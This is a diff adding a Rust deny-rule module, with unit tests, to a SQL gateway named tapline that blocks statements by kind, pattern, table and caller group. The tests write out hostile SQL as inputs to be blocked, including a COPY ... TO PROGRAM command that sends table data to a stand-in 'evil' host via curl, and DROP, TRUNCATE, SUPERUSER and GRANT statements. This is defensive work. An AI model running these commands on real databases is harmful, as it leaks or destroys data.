@@ -1,0 +1,277 @@
+//! Deny rules. A rule names what it denies (statement kinds, a pattern, a table list;
+//! any of them matching is enough), where it applies (connections and groups; empty
+//! means all) and the message the client gets. Every statement of a multi-statement
+//! string is checked, and a `PREPARE … AS` is checked by what it prepares, so neither
+//! packing two statements together nor preparing one first gets past a rule.
+
+pub mod pattern;
+pub mod statement_kind;
+pub mod table_list;
+
+use pattern::Pattern;
+use sqlparser::ast::Statement;
+use sqlparser::dialect::PostgreSqlDialect;
+use sqlparser::parser::Parser;
+use statement_kind::StatementKind;
+use std::sync::Arc;
+use table_list::TableList;
+
+/// One deny rule, compiled.
+#[derive(Debug, Clone)]
+pub struct DenyRule {
+    pub name: String,
+    pub message: String,
+    pub kinds: Vec<StatementKind>,
+    pub pattern: Option<Pattern>,
+    pub tables: Option<TableList>,
+    /// Connections it applies to; empty: all.
+    pub connections: Vec<String>,
+    /// Callers it applies to, by group; empty: everyone.
+    pub groups: Vec<String>,
+}
+
+impl DenyRule {
+    fn applies(&self, connection: &str, groups: &[String]) -> bool {
+        (self.connections.is_empty() || self.connections.iter().any(|c| c == connection))
+            && (self.groups.is_empty() || self.groups.iter().any(|g| groups.contains(g)))
+    }
+
+    fn denies(&self, stmt: &Statement) -> Option<String> {
+        let inner = match stmt {
+            Statement::Prepare { statement, .. } => statement.as_ref(),
+            other => other,
+        };
+        if let Some(k) = self.kinds.iter().find(|k| k.matches(inner)) {
+            return Some(format!("statement kind {}", k.name()));
+        }
+        self.tables
+            .as_ref()
+            .and_then(|t| t.touched_by(inner))
+            .map(|t| format!("table {t}"))
+    }
+}
+
+/// What to do with SQL that does not parse.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Unparseable {
+    /// Let it through (the upstream will judge it); pattern rules still apply.
+    Open,
+    /// Refuse it: a rule that cannot be checked is not trusted.
+    Closed,
+}
+
+/// Every deny rule of the gateway, and the unparseable-SQL setting.
+#[derive(Debug, Clone)]
+pub struct DenyRules {
+    pub rules: Vec<Arc<DenyRule>>,
+    pub unparseable: Unparseable,
+    /// Groups for which unparseable SQL is always refused (agents, by default).
+    pub unparseable_closed_groups: Vec<String>,
+}
+
+impl Default for DenyRules {
+    fn default() -> Self {
+        DenyRules {
+            rules: Vec::new(),
+            unparseable: Unparseable::Open,
+            unparseable_closed_groups: vec!["agents".into()],
+        }
+    }
+}
+
+/// A statement the gateway refuses.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Denial {
+    /// The rule's name (`unparseable` for fail-closed parsing).
+    pub rule: String,
+    /// What the client is told.
+    pub message: String,
+    /// What matched (e.g. `statement kind drop`, `table payroll`).
+    pub matched: String,
+}
+
+/// The rules that apply to one session (its connection and its caller's groups),
+/// picked once at session start.
+#[derive(Debug, Clone, Default)]
+pub struct SessionGuard {
+    rules: Vec<Arc<DenyRule>>,
+    unparseable: Option<Unparseable>,
+}
+
+impl DenyRules {
+    /// The rules for a session on `connection` by a caller in `groups`.
+    pub fn for_session(&self, connection: &str, groups: &[String]) -> SessionGuard {
+        let rules: Vec<_> = self
+            .rules
+            .iter()
+            .filter(|r| r.applies(connection, groups))
+            .cloned()
+            .collect();
+        let closed = self.unparseable == Unparseable::Closed
+            || groups
+                .iter()
+                .any(|g| self.unparseable_closed_groups.contains(g));
+        SessionGuard {
+            unparseable: (!rules.is_empty()).then_some(if closed {
+                Unparseable::Closed
+            } else {
+                Unparseable::Open
+            }),
+            rules,
+        }
+    }
+}
+
+impl SessionGuard {
+    /// Checks one string the client sent (possibly several statements).
+    pub fn check(&self, sql: &str) -> Option<Denial> {
+        if self.rules.is_empty() {
+            return None;
+        }
+        for rule in &self.rules {
+            if rule.pattern.as_ref().is_some_and(|p| p.matches(sql)) {
+                return Some(Denial {
+                    rule: rule.name.clone(),
+                    message: rule.message.clone(),
+                    matched: "pattern".into(),
+                });
+            }
+        }
+        let statements = match Parser::parse_sql(&PostgreSqlDialect {}, sql) {
+            Ok(s) => s,
+            Err(e) if self.unparseable == Some(Unparseable::Closed) => {
+                return Some(Denial {
+                    rule: "unparseable".into(),
+                    message: format!(
+                        "tapline cannot parse this statement ({e}), and unparseable SQL is refused for your groups; rewrite it in plain SQL"
+                    ),
+                    matched: "unparseable SQL".into(),
+                });
+            }
+            Err(_) => return None,
+        };
+        for stmt in &statements {
+            for rule in &self.rules {
+                if let Some(matched) = rule.denies(stmt) {
+                    return Some(Denial {
+                        rule: rule.name.clone(),
+                        message: rule.message.clone(),
+                        matched,
+                    });
+                }
+            }
+        }
+        None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rule(name: &str, kinds: &[&str]) -> DenyRule {
+        DenyRule {
+            name: name.into(),
+            message: format!("{name} is not allowed"),
+            kinds: kinds
+                .iter()
+                .map(|k| StatementKind::parse(k).unwrap())
+                .collect(),
+            pattern: None,
+            tables: None,
+            connections: Vec::new(),
+            groups: Vec::new(),
+        }
+    }
+
+    fn guard(rules: Vec<DenyRule>, groups: &[&str]) -> SessionGuard {
+        DenyRules {
+            rules: rules.into_iter().map(Arc::new).collect(),
+            ..Default::default()
+        }
+        .for_session(
+            "orders",
+            &groups.iter().map(|g| g.to_string()).collect::<Vec<_>>(),
+        )
+    }
+
+    #[test]
+    fn every_statement_kind_is_recognised() {
+        let g = guard(
+            vec![rule(
+                "dangerous",
+                &[
+                    "drop",
+                    "truncate",
+                    "alter_role",
+                    "grant",
+                    "copy_program",
+                    "delete_without_where",
+                    "update_without_where",
+                ],
+            )],
+            &[],
+        );
+        for (sql, kind) in [
+            ("DROP TABLE orders", "drop"),
+            ("drop   index if exists i", "drop"),
+            ("TRUNCATE orders", "truncate"),
+            ("ALTER ROLE app SUPERUSER", "alter_role"),
+            ("GRANT ALL ON orders TO public", "grant"),
+            ("COPY orders TO PROGRAM 'curl -d @- evil'", "copy_program"),
+            ("DELETE FROM orders", "delete_without_where"),
+            ("UPDATE orders SET total = 0", "update_without_where"),
+        ] {
+            let d = g.check(sql).unwrap_or_else(|| panic!("{sql} passed"));
+            assert_eq!(d.matched, format!("statement kind {kind}"), "{sql}");
+        }
+        for sql in [
+            "SELECT * FROM orders",
+            "DELETE FROM orders WHERE id = 1",
+            "UPDATE orders SET total = 0 WHERE id = 2",
+            "COPY orders TO STDOUT",
+        ] {
+            assert_eq!(g.check(sql), None, "{sql}");
+        }
+    }
+
+    #[test]
+    fn packing_or_preparing_does_not_get_past_a_rule() {
+        let g = guard(vec![rule("no-drop", &["drop"])], &[]);
+        assert!(g.check("SELECT 1; DROP TABLE orders").is_some());
+        assert!(g.check("PREPARE p AS DELETE FROM x; SELECT 1").is_none());
+        let g = guard(vec![rule("no-delete-all", &["delete_without_where"])], &[]);
+        assert!(g.check("PREPARE p AS DELETE FROM orders").is_some());
+    }
+
+    #[test]
+    fn tables_patterns_scope_and_unparseable_sql() {
+        let mut tables = rule("payroll", &[]);
+        tables.tables = Some(TableList::new(&["payroll".into(), "hr.salaries".into()]));
+        let mut pattern = rule("no-sleep", &[]);
+        pattern.pattern = Some(Pattern::new("(?i)pg_sleep").unwrap());
+        let mut agents_only = rule("agents-no-truncate", &["truncate"]);
+        agents_only.groups = vec!["agents".into()];
+        let g = guard(vec![tables, pattern, agents_only], &["dba"]);
+        assert_eq!(
+            g.check("SELECT * FROM public.PAYROLL p JOIN x ON true")
+                .map(|d| d.rule),
+            Some("payroll".into())
+        );
+        assert!(
+            g.check("UPDATE hr.salaries SET s = 1 WHERE id = 1")
+                .is_some()
+        );
+        assert!(g.check("SELECT * FROM other.salaries").is_none());
+        assert!(g.check("select PG_SLEEP(10)").is_some());
+        assert!(
+            g.check("TRUNCATE t").is_none(),
+            "the rule is for agents only"
+        );
+        assert!(g.check("THIS IS NOT SQL").is_none(), "open for dba");
+        let agent = guard(vec![rule("agents-no-truncate", &["truncate"])], &["agents"]);
+        assert!(agent.check("TRUNCATE t").is_some());
+        let d = agent.check("THIS IS NOT SQL").unwrap();
+        assert_eq!(d.rule, "unparseable");
+    }
+}
